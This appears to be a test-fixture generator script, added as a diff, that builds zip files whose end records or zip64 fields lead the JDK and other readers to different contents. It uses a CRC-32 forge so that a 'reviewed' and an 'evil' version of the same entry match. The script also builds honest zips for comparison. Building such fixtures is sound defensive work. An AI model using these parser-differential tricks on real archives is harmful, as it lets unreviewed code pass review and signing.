@@ -1,0 +1,132 @@
+#!/usr/bin/env bash
+# Zips whose end records, read by two readers, lead to two different central directories: the JDK
+# trusts a zip64 end record only where the 32-bit one agrees with it (or holds the 0xFFFF... marks)
+# and finds the central directory just before the record it trusts; Commons Compress, Python and
+# others follow a zip64 locator whenever there is one, to the offset it names. Each attack holds one
+# entry, a.txt, the same name, size and CRC-32 to both readers (the CRC is forged), and two
+# different contents: "reviewed" to one reader, "evil" to the other. Also the honest shapes they
+# are told apart from: a zip64 zip from Info-ZIP's zip -fz, and zips with bytes the central
+# directory does not account for. Deterministic; run by make.sh, or alone
+# (Debian: apt-get install zip python3).
+set -euo pipefail
+cd "$(dirname "$0")"
+mkdir -p out
+O=$(pwd)/out
+tmp=$(mktemp -d)
+trap 'rm -rf "$tmp"' EXIT
+export TZ=UTC LC_ALL=C
+
+# The honest zip64 shape, from the real tool: zip64 extra fields and a zip64 end record.
+printf 'reviewed content, zip64 end record\n' > "$tmp/a.txt"
+printf 'second entry\n' > "$tmp/b.txt"
+touch -d 2026-01-01T00:00:00Z "$tmp/a.txt" "$tmp/b.txt"
+rm -f "$O/zip64-forced.zip"
+(cd "$tmp" && zip -q -X -fz "$O/zip64-forced.zip" a.txt b.txt)
+
+python3 - "$O" <<'PY'
+import struct, sys, zlib
+out = sys.argv[1]
+
+TABLE = []
+for i in range(256):
+    c = i
+    for _ in range(8):
+        c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
+    TABLE.append(c)
+TOP = {t >> 24: i for i, t in enumerate(TABLE)}
+
+def forge(data, wanted):
+    """data + 4 bytes whose CRC-32 is wanted: CRC-32 is linear, anyone can do this."""
+    idx, reg = [], wanted ^ 0xFFFFFFFF
+    for _ in range(4):                      # walk back: the top byte names the table index
+        i = TOP[reg >> 24]
+        idx.append(i)
+        reg = ((reg ^ TABLE[i]) << 8) & 0xFFFFFFFF
+    reg, tail = zlib.crc32(data) ^ 0xFFFFFFFF, bytearray()
+    for i in reversed(idx):                 # and forward, choosing each byte to hit the index
+        tail.append((reg ^ i) & 0xFF)
+        reg = (reg >> 8) ^ TABLE[i]
+    forged = data + bytes(tail)
+    assert zlib.crc32(forged) == wanted
+    return forged
+
+NAME = b"a.txt"
+# 68 bytes, so that the zip64 end record of attack 1 lies at offset 257: its locator, in a
+# comment, is then valid UTF-8, which the JDK requires of comments.
+REVIEWED = b"reviewed content: the build that the reviewers read, line by line!\n\n"
+EVIL = forge(b"evil content: a build nobody reviewed, with a payload inside!!!\n",
+             zlib.crc32(REVIEWED))
+assert len(EVIL) == len(REVIEWED)
+CRC = zlib.crc32(REVIEWED)
+DOS_TIME, DOS_DATE = 0, (2026 - 1980) << 9 | 1 << 5 | 1
+
+def local(data):
+    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, DOS_TIME, DOS_DATE, CRC,
+                       len(data), len(data), len(NAME), 0) + NAME + data
+
+def central(offset, comment=b""):
+    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x314, 20, 0, 0, DOS_TIME, DOS_DATE,
+                       CRC, len(REVIEWED), len(REVIEWED), len(NAME), 0, len(comment), 0, 0,
+                       0o644 << 16, offset) + NAME + comment
+
+def zip64_end(cd_size, cd_offset):
+    return struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, cd_size, cd_offset)
+
+def zip64_locator(end_offset):
+    return struct.pack("<IIQI", 0x07064B50, 0, end_offset, 1)
+
+def end(cd_size, cd_offset, count=1):
+    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, 0)
+
+loc_r, loc_e = local(REVIEWED), local(EVIL)
+
+# 1. [reviewed][evil][CD -> reviewed][zip64 end -> that CD][CD -> evil][end -> that CD], the
+# zip64 locator hidden in the comment of the last central record, right before the 32-bit end
+# record. The two end records disagree, so the JDK takes the 32-bit one (evil); the locator is
+# there, so Commons Compress takes the zip64 one (reviewed).
+cd_r = central(0)
+pos_cd_r = len(loc_r) + len(loc_e)
+pos_z64 = pos_cd_r + len(cd_r)
+z64 = zip64_end(len(cd_r), pos_cd_r)
+pos_cd_e = pos_z64 + len(z64)
+cd_e = central(len(loc_r), zip64_locator(pos_z64))
+zip64_locator(pos_z64).decode("utf-8")
+data = loc_r + loc_e + cd_r + z64 + cd_e + end(len(cd_e), pos_cd_e)
+open(f"{out}/zip-dual-end-records.zip", "wb").write(data)
+
+# 2. One zip64 end record both readers trust (the 32-bit fields all say "see zip64"), whose
+# offset names one central directory while the record itself sits after another:
+# [reviewed][evil][CD -> offset 0][6 bytes][CD -> offset 0][zip64 end][locator][end]. Commons
+# Compress reads the directory at the named offset (reviewed, at 0); the JDK reads the one just
+# before the record and takes the difference as bytes prepended to the zip (evil, at 103).
+cd_first, cd_second = central(0), central(0)
+junk = b"-" * (len(loc_r) - len(cd_first))         # so that the prefix lands on evil
+pos_first = len(loc_r) + len(loc_e)
+pos_second = pos_first + len(cd_first) + len(junk)
+assert pos_second - pos_first == len(loc_r), "the JDK's prefix must land on the evil entry"
+pos_z64 = pos_second + len(cd_second)
+data = (loc_r + loc_e + cd_first + junk + cd_second
+        + zip64_end(len(cd_second), pos_first) + zip64_locator(pos_z64)
+        + end(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFF))
+open(f"{out}/zip64-offset-elsewhere.zip", "wb").write(data)
+
+# 3. Two zip64 extra fields in one central record, each with another local header offset (the
+# 32-bit one says "see zip64"). The JDK, Commons Compress, Python and Info-ZIP all take the first
+# (reviewed); a field may appear once, and a reader that takes the last sees evil.
+cd = central(0xFFFFFFFF)
+z64a = struct.pack("<HHQ", 1, 8, 0)
+z64b = struct.pack("<HHQ", 1, 8, len(loc_r))
+extra = z64a + z64b
+cd = cd[:30] + struct.pack("<H", len(extra)) + cd[32:] + extra
+data = loc_r + loc_e + cd + end(len(cd), len(loc_r) + len(loc_e))
+open(f"{out}/zip64-two-extra-fields.zip", "wb").write(data)
+
+# 4. Bytes no record accounts for: an entry between the last listed one and the central
+# directory (a stream reader would see it), and bytes after the end record.
+cd = central(0)
+data = loc_r + loc_e + cd + end(len(cd), len(loc_r) + len(loc_e))
+open(f"{out}/zip-hidden-entry.zip", "wb").write(data)
+cd = central(0)
+data = loc_r + cd + end(len(cd), len(loc_r)) + b"appended after the end record\n"
+open(f"{out}/zip-trailing-bytes.zip", "wb").write(data)
+PY
